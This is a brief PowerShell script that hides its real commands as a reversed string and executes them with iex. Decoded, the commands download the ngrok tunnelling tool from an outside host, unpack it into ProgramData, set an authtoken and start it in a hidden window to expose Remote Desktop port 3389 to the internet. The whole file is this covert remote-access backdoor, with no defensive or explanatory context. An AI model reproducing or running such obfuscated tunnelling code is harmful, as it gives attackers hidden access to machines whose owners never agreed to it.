$vnvcz='
''9833 pct'' tsiLtnemugrA- exe.korgn\gn\ataDmargorP\:C neddiH elytSwodniW- ssecorP-tratS
1234567890_zyxWVutsRQPonmLKJihgFEDcba2 nekothtua exe.korgn\gn\ataDmargorP\:C
gn\ataDmargorP\:C htaPnoitanitseD- piz.n\PMET:vne$ evihcrA-dnapxE
piz.n\PMET:vne$ eliFtuO- ''piz.46dma-swodniw-elbats-3v-korgn/c4YVQm1jyNb/c/oi.xoniuqe.nib//:sptth'' tseuqeRbeW-ekovnI
1v 9454 ksat #'.ToCharArray(); [array]::Reverse($vnvcz); iex (-join $vnvcz)